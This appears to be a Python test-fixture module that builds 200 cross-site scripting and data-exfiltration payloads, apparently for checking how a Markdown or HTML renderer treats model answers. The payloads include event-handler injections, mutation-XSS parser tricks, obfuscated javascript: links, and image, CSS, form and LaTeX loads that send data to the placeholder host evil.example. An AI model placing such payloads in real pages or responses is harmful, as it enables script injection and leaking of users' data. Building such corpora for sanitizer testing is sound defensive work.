"""Two hundred answers that try to run a script (`pwned`) or to send something out of the house."""

from collections.abc import Iterator
from itertools import cycle, islice

COUNT = 200
OUT = "https://evil.example/?words="
RUN = "window.pwned=1"

EVENTS = (
    "<img src=x onerror={run}>",
    "<img src='x'onerror={run}>",
    "<svg onload={run}>",
    "<svg/onload={run}>",
    "<body onload={run}>",
    "<body onpageshow={run}>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}></select>",
    "<textarea autofocus onfocus={run}></textarea>",
    "<details open ontoggle={run}>x</details>",
    "<video src=x onerror={run}></video>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}></audio>",
    "<marquee onstart={run}>x</marquee>",
    "<div onpointerover={run} style=position:fixed;inset:0>x</div>",
    "<div style='animation:a 1s' onanimationstart={run}>x</div>",
    "<style>@keyframes a{{}}</style><b style='animation-name:a' onanimationstart={run}>x</b>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:{run}><a><text>x</text></a>",
    "<iframe onload={run}></iframe>",
    "<object onerror={run} data=x></object>",
    "<button popovertarget=p>x</button><b popover id=p onbeforetoggle={run}>x</b>",
    "<a href=# onclick={run} id=x tabindex=1 autofocus onfocus={run}>x</a>",
    "<img/src/onerror={run}//",
    "<x contenteditable onblur={run} autofocus>x</x>",
)
SCRIPTS = (
    "<script>{run}</script>",
    "<SCRIPT SRC=data:text/javascript,{run}></SCRIPT>",
    "<script type=module>{run}</script>",
    "<script/x>{run}</script>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<svg><script>{run}</script></svg>",
    "<svg><script href=data:text/javascript,{run} /></svg>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src='javascript:parent.{run}'></iframe>",
    "<object data='javascript:{run}'></object>",
    "<embed src='javascript:{run}'>",
    "<object data='data:text/html,<script>parent.{run}</script>'></object>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<math href='javascript:{run}'><mtext>x</mtext></math>",
    "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><script>{run}</script>'></noscript>",
)
MUTATIONS = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={run}&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror={run}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={run}>",
    "<math><mi><table><mi><mglyph><style><!--</style><img title='--&gt;<img src=x onerror={run}>'></table>",
    "<svg><desc><svg><image href=x onerror={run}></svg></desc></svg>",
    "<p id='</p><img src=x onerror={run}>'>x",
    "<!--><img src=x onerror={run}>-->",
    "<![CDATA[><img src=x onerror={run}>]]>",
    "<xmp><p title='</xmp><img src=x onerror={run}>'></xmp>",
    "<textarea></textarea><img src=x onerror={run}>",
    "<title><img src=x onerror={run}></title>",
    "<svg><foreignObject><img src=x onerror={run}></foreignObject></svg>",
)
LINKS = (
    "[x](javascript:{run})",
    "[x](JaVaScRiPt:{run})",
    "[x](java\tscript:{run})",
    "[x](&#106;avascript:{run})",
    "[x](&#x6A&#x61;vascript:{run})",
    "[x](\x01javascript:{run})",
    "[x](javascript&colon;{run})",
    "[x](javascript://%0a{run})",
    "[x](data:text/html,<script>{run}</script>)",
    "[x](vbscript:{run})",
    "[x](blob:null/{run})",
    "[x][1]\n\n[1]: javascript:{run}",
    "<javascript:{run}>",
    "[![x](javascript:{run})](javascript:{run})",
    "[x](<javascript:{run}>)",
    "[x](https://ok.example 'a\" onmouseover={run} x=\"')",
    "<a href='javascript:{run}' autofocus>x</a>",
    "<a xlink:href='javascript:{run}'>x</a>",
    "<area href='javascript:{run}'>",
    "[x](java\u200bscript:{run})",
    "[x](\u202etpircsavaj:{run})",
    "[x](ｊａｖａｓｃｒｉｐｔ:{run})",
    "[x](\ufeffjavascript:{run})",
    "＜script＞{run}＜/script＞ <ſcript>{run}</ſcript> <img src=x onerror\u3000={run}>",
)
LEAKS = (
    "![x]({out}1)",
    "![x][p]\n\n[p]: {out}2",
    "![]({out}3 'x')",
    "[![x]({out}4)](https://ok.example)",
    "<img src={out}5>",
    "<img srcset='{out}6 2x'>",
    "<picture><source srcset={out}7><img></picture>",
    "<link rel=stylesheet href={out}8>",
    "<link rel=prefetch href={out}9>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<style>@import '{out}10'</style>",
    "<style>* {{ background: url({out}11) }}</style>",
    "<b style='background:url({out}12)'>x</b>",
    "<b style='list-style-image:url({out}13);display:list-item'>x</b>",
    "<base href={out}14>",
    "<meta http-equiv=refresh content='0;url={out}15'>",
    "<form action={out}16><input name=a><button autofocus>x</button></form>",
    "<iframe src={out}17></iframe>",
    "<object data={out}18></object>",
    "<embed src={out}19>",
    "<video src={out}20 autoplay></video>",
    "<video poster={out}21></video>",
    "<audio src={out}22></audio>",
    "<track src={out}23>",
    "<svg><image href={out}24 /></svg>",
    "<svg><use href={out}25#x /></svg>",
    "<svg><filter><feImage href={out}26 /></filter></svg>",
    "<body background={out}27>",
    "<table background={out}28><tr><td>x</table>",
    "<a ping={out}29 href=https://ok.example>x</a>",
    "<frameset><frame src={out}30></frameset>",
    "<input type=image src={out}31>",
    "<script src={out}32></script>",
    "$$\\includegraphics{{{out}33}}$$",
    "\\(\\href{{{out}34}}{{x}} \\style{{background:url({out}35)}}{{x}}\\)",
    "$$\\text{{<img src={out}36>}}$$",
    "| ![x]({out}37) |\n|--|\n| ![x]({out}38) |",
    "> - ![x]({out}39)\n>   1. ![x]({out}40)",
)
PLACES = (
    "Here you are:\n\n- {attack}\n- **{attack}**",
    "| a | b |\n|---|---|\n| {attack} | x |",
    "```html\n{attack}\n```\n{attack}",
    "# {attack}\n\n> {attack}",
    "`{attack}` \\({attack}\\)",
)


def answers() -> list[str]:
    """All of them; no two are the same."""
    found = list(dict.fromkeys(islice(_placed(), COUNT)))
    assert len(found) == COUNT
    return found


def living() -> list[str]:
    """Those that need nobody's click, as they are: a page that takes them for HTML is lost."""
    return [_filled(attack) for attack in (*EVENTS, *SCRIPTS, *MUTATIONS, *LEAKS) if "<" in attack]


def _placed() -> Iterator[str]:
    """Every attack as it is, then inside of what Markdown has, of each kind as many."""
    attacks = [_filled(attack) for attack in (*EVENTS, *SCRIPTS, *MUTATIONS, *LINKS, *LEAKS)]
    yield from attacks
    for attack, place in zip(attacks, cycle(PLACES)):
        yield place.format(attack=attack.replace("\n", " ") if place.startswith("|") else attack)


def _filled(attack: str) -> str:
    return attack.format(run=RUN, out=OUT)
